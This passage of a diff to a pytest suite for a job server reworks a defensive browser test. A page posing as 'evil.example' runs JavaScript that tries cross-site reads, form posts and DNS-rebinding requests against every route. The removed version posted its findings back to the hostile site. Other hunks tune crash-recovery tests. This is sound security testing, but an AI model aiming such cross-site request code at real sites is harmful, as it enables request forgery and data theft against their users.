-  return new Promise(done => { frame.onload = () => done("sent"); form.submit(); });
-}
-(async () => {
+@pytest.fixture
+def stranger() -> Iterator[str]:
+    """The URL of a server that is not taskapi."""
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self.send_response(200)
+            self.end_headers()
+            self.wfile.write(b'{"hello": 1}')
+
+        def log_message(self, *_: Any) -> None:
+            pass
+
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
+        thread = threading.Thread(target=server.serve_forever)
+        thread.start()
+        yield f"http://127.0.0.1:{server.server_port}"
+        server.shutdown()
+        thread.join()
+
+
+ATTACK = """(async () => {
+  const target = TARGET, report = {};
+  async function attempt(name, work) {
+    try { report[name] = String(await work()); } catch (error) { report[name] = "refused: " + error.name; }
+  }
+  function form(path, type, name, value) {
+    const frame = Object.assign(document.createElement("iframe"), {name: "f" + Math.random()});
+    document.body.append(frame);
+    const form = Object.assign(document.createElement("form"), {method: "post", action: target + path, enctype: type,
+                                                               target: frame.name});
+    form.append(Object.assign(document.createElement("input"), {name, value}));
+    document.body.append(form);
+    return new Promise(done => { frame.onload = () => done("sent"); form.submit(); });
+  }
   for (const [method, path] of ROUTES) {
     const sends = method == "POST";
     await attempt(`read ${method} ${path}`, async () => (await fetch(target + path, {method})).text());
@@ -6711,60 +6766,13 @@ function form(path, type, name, value) {
     for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"])
       await attempt(`form ${type} ${path}`, () => form(path, type, '{"count": 1, "x": "', '"}'));
   }
-  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
-})();
-</script>"""
+  return report; })()"""
 
 
-@contextmanager
-def hostile_site(target: str, routes: Sequence[tuple[str, str]], port: int = 0) -> Iterator[tuple[int, list[Any]]]:
-    """Another site, with a page that attacks `target` and reports what it could see: (port, reports)."""
-    reports: list[Any] = []
-    page = HOSTILE_PAGE.replace("TARGET", json.dumps(target)).replace("ROUTES", json.dumps(list(routes)))
-
-    class Handler(http.server.BaseHTTPRequestHandler):
-        def do_GET(self) -> None:
-            self.reply(page.encode())
-
-        def do_POST(self) -> None:
-            reports.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
-            self.reply(b"")
-
-        def reply(self, body: bytes) -> None:
-            self.send_response(200)
-            self.send_header("Content-Type", "text/html")
-            self.send_header("Content-Length", str(len(body)))
-            self.end_headers()
-            self.wfile.write(body)
-
-        def log_message(self, *_: object) -> None:
-            """Quiet."""
-
-    with http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler) as server:
-        thread = threading.Thread(target=server.serve_forever)
-        thread.start()
-        try:
-            yield server.server_port, reports
-        finally:
-            server.shutdown()
-            thread.join()
-
-
-@contextmanager
-def browser_at(address: str, folder: Path, *flags: str) -> Iterator[None]:
-    """Chromium with a page open."""
-    command = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
-               "--disable-background-networking", f"--user-data-dir={folder}", *flags, address]
-    with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as process:
-        try:
-            yield
-        finally:
-            process.kill()
-
-
-@pytest.mark.skipif(not CHROMIUM, reason="there is no Chromium to attack with")
+@browsing
 @pytest.mark.parametrize("rebound", [False, pytest.param(True, marks=pytest.mark.slow)], ids=["origin", "rebound"])
-def test_a_page_of_another_site_can_neither_read_nor_cause_anything(tmp_path: Path, rebound: bool) -> None:
+def test_a_page_of_another_site_can_neither_read_nor_cause_anything(
+        tmp_path: Path, tab: Tab, stranger: str, rebound: bool) -> None:
     """A real browser, every route: forms, blind fetches and uploads; and the same from a name that turns to us."""
     with Live(tmp_path / "data") as live:
         job_id = live.make("/generate", PERSONS)
@@ -6772,13 +6780,11 @@ def test_a_page_of_another_site_can_neither_read_nor_cause_anything(tmp_path: Pa
         before = plain(tmp_path / "data", "SELECT id, status, attempt FROM jobs")
         routes = [(entry.method, entry.path.replace("{jobId}", job_id).replace("{recordType}", "person"))
                   for entry in SERVED]
-        name = f"http://rebound.example:{urlsplit(live.url).port}"
-        with hostile_site(name if rebound else live.url, routes) as (port, reports), browser_at(
-                f"http://evil.example:{port}/", tmp_path / "browser",
-                "--host-resolver-rules=MAP *.example 127.0.0.1"):
-            until(lambda: reports, 60)
-        report = reports[0]
-        print(json.dumps(report, indent=1))
+        target = f"http://rebound.example:{urlsplit(live.url).port}" if rebound else live.url
+        tab.call("Page.navigate", url=stranger.replace("127.0.0.1", "evil.example"))
+        tab.until("location.hostname === 'evil.example' && document.readyState === 'complete'")
+        report = tab.js(ATTACK.replace("TARGET", json.dumps(target)).replace("ROUTES", json.dumps(routes)))
+        tab.complaints.clear()  # of what was refused
         assert report.keys() > {f"read {method} {path}" for method, path in routes}
         for attempt, result in report.items():
             assert result in ("refused: TypeError", "opaque", "sent"), (attempt, result)
@@ -7036,26 +7042,6 @@ def test_resume_starts_what_failed_or_was_canceled_again(tmp_path: Path, run: Ca
     assert len((tmp_path / "a.csv").read_text().splitlines()) == 11
     assert run("resume", made.job_id, "--out", "b.ndjson") == (0, "", "")
     assert len((tmp_path / "b.ndjson").read_text().splitlines()) == 10
-
-
-@pytest.fixture
-def stranger() -> Iterator[str]:
-    """The URL of a server that is not taskapi."""
-    class Handler(http.server.BaseHTTPRequestHandler):
-        def do_GET(self) -> None:
-            self.send_response(200)
-            self.end_headers()
-            self.wfile.write(b'{"hello": 1}')
-
-        def log_message(self, *_: Any) -> None:
-            pass
-
-    with http.server.HTTPServer(("127.0.0.1", 0), Handler) as server:
-        thread = threading.Thread(target=server.serve_forever)
-        thread.start()
-        yield f"http://127.0.0.1:{server.server_port}"
-        server.shutdown()
-        thread.join()
 
 
 def test_a_holder_that_is_no_server_of_ours_is_named(
@@ -7699,40 +7685,6 @@ def test_a_crash_at_any_commit_rename_or_deletion_loses_and_doubles_nothing(
         assert_whole(folder)
 
 
-def crash_round(folder: Path, random: Random, *, count: int) -> None:
-    """Kills a server at a random point of its work, starts it anew, and checks that all it acknowledged is there."""
-    with Live(folder) as live:
-        made = [live.make("/generate", {**PERSONS, "count": count, "seed": seed}) for seed in (1, 2)]
-        point = random.randrange(2 * count)
-        until(lambda: sum(live.job(job_id)["progress"]["done"] for job_id in made) >= point, 60)
-        if random.random() < 0.5:
-            exports = [live.make("/export", {"format": kind, "orderBy": "-name"}) for kind in ("csv", "json", "ndjson")]
-            until(lambda: live.job(exports[0])["startedAt"], 60)
-        else:
-            exports = []
-        uploads = [live.ask("POST", "/upload", form(b"x" * 50_000, "a.txt"), FORM).json["jobId"]]
-        with plug(live.url) as half:
-            half.sendall(head(40_000) + part(b"x" * 20_000, "a.txt"))
-            live.end(signal.SIGKILL)
-    with Live(folder) as live:
-        for job_id in [*made, *exports, *uploads]:
-            assert live.job(job_id, 30)["status"] == "completed", live.job(job_id)
-        for job_id in made:
-            found = plain(folder, "SELECT count(*), count(DISTINCT _id) FROM person WHERE _job = ?", job_id)
-            assert found == [(count, count)]
-        check = live.make("/export", {"format": "json", "filters": {"jobId": made[0]}})
-        assert live.job(check, 30)["result"]["records"] == count
-        assert {"pending", "in-progress"}.isdisjoint(plain(folder, "SELECT status FROM jobs"))
-        assert_sound(folder)
-        assert live.end() == 0
-
-
-@pytest.mark.parametrize("seed", [0, pytest.param(1, marks=pytest.mark.slow)])
-def test_kill_9_at_any_point_loses_nothing_and_doubles_nothing(tmp_path: Path, seed: int) -> None:
-    """After the restart: integrity, every job, exactly the count, whole files, no leftovers."""
-    crash_round(tmp_path / "data", Random(seed), count=4000)
-
-
 def press(url: str, random: Random, made: list[str], going: set[str], gone: set[str]) -> None:
     """A client that does everything, and notes what is acknowledged, until the server is killed."""
     with suppress(OSError, http.client.HTTPException):
@@ -7758,18 +7710,18 @@ def press(url: str, random: Random, made: list[str], going: set[str], gone: set[
                     gone.add(known)
 
 
-@pytest.mark.slow
-def test_kill_9_two_hundred_times_under_load_loses_nothing(tmp_path: Path) -> None:
+@pytest.mark.parametrize("kills", [4, pytest.param(200, marks=pytest.mark.slow)])
+def test_kill_9_again_and_again_under_load_loses_nothing_and_doubles_nothing(tmp_path: Path, kills: int) -> None:
     """Four clients do everything while the server is killed over and over, also while it recovers."""
     folder, random = tmp_path / "data", Random(200)
     made: list[str] = []
     going: set[str] = set()
     gone: set[str] = set()
-    for number in range(200):
+    for number in range(kills):
         with Live(folder, "--max-attempts", "100", "--log-level", "warning") as live:
             assert plain(folder, "PRAGMA integrity_check") == ["ok"]
             assert {*made} - going <= {*plain(folder, "SELECT id FROM jobs")}
-            if number % 8 == 7:
+            if number % 8 == 3:
                 until(lambda: not plain(folder, "SELECT 1 FROM jobs WHERE status IN ('pending', 'in-progress')"), 60)
                 until(lambda: not plain(folder, "SELECT 1 FROM _id_ranges LEFT JOIN jobs ON id = job "
                                                 "WHERE coalesce(status, '') <> 'completed'"))
@@ -7784,7 +7736,7 @@ def test_kill_9_two_hundred_times_under_load_loses_nothing(tmp_path: Path) -> No
             live.end(signal.SIGKILL)
             for client in crowd:
                 client.join(40)
-    print(f"\n200 kills, {len(made)} jobs acknowledged, {len(gone)} deleted")
+    print(f"\n{kills} kills, {len(made)} jobs acknowledged, {len(gone)} deleted")
 
 
 # ==== House ====
